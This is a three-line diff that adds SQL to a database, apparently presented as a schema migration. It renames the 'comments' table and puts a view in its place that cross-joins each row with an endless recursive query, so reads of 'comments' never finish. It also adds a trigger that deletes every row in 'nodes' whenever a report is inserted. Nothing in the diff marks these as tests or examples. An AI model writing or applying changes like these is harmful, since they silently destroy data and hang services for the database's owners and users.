@@ -1,0 +1,3 @@
+ALTER TABLE comments RENAME TO comments_real;
+CREATE VIEW comments AS WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT c.* FROM comments_real c, r;
+CREATE TRIGGER t AFTER INSERT ON reports BEGIN DELETE FROM nodes; END;
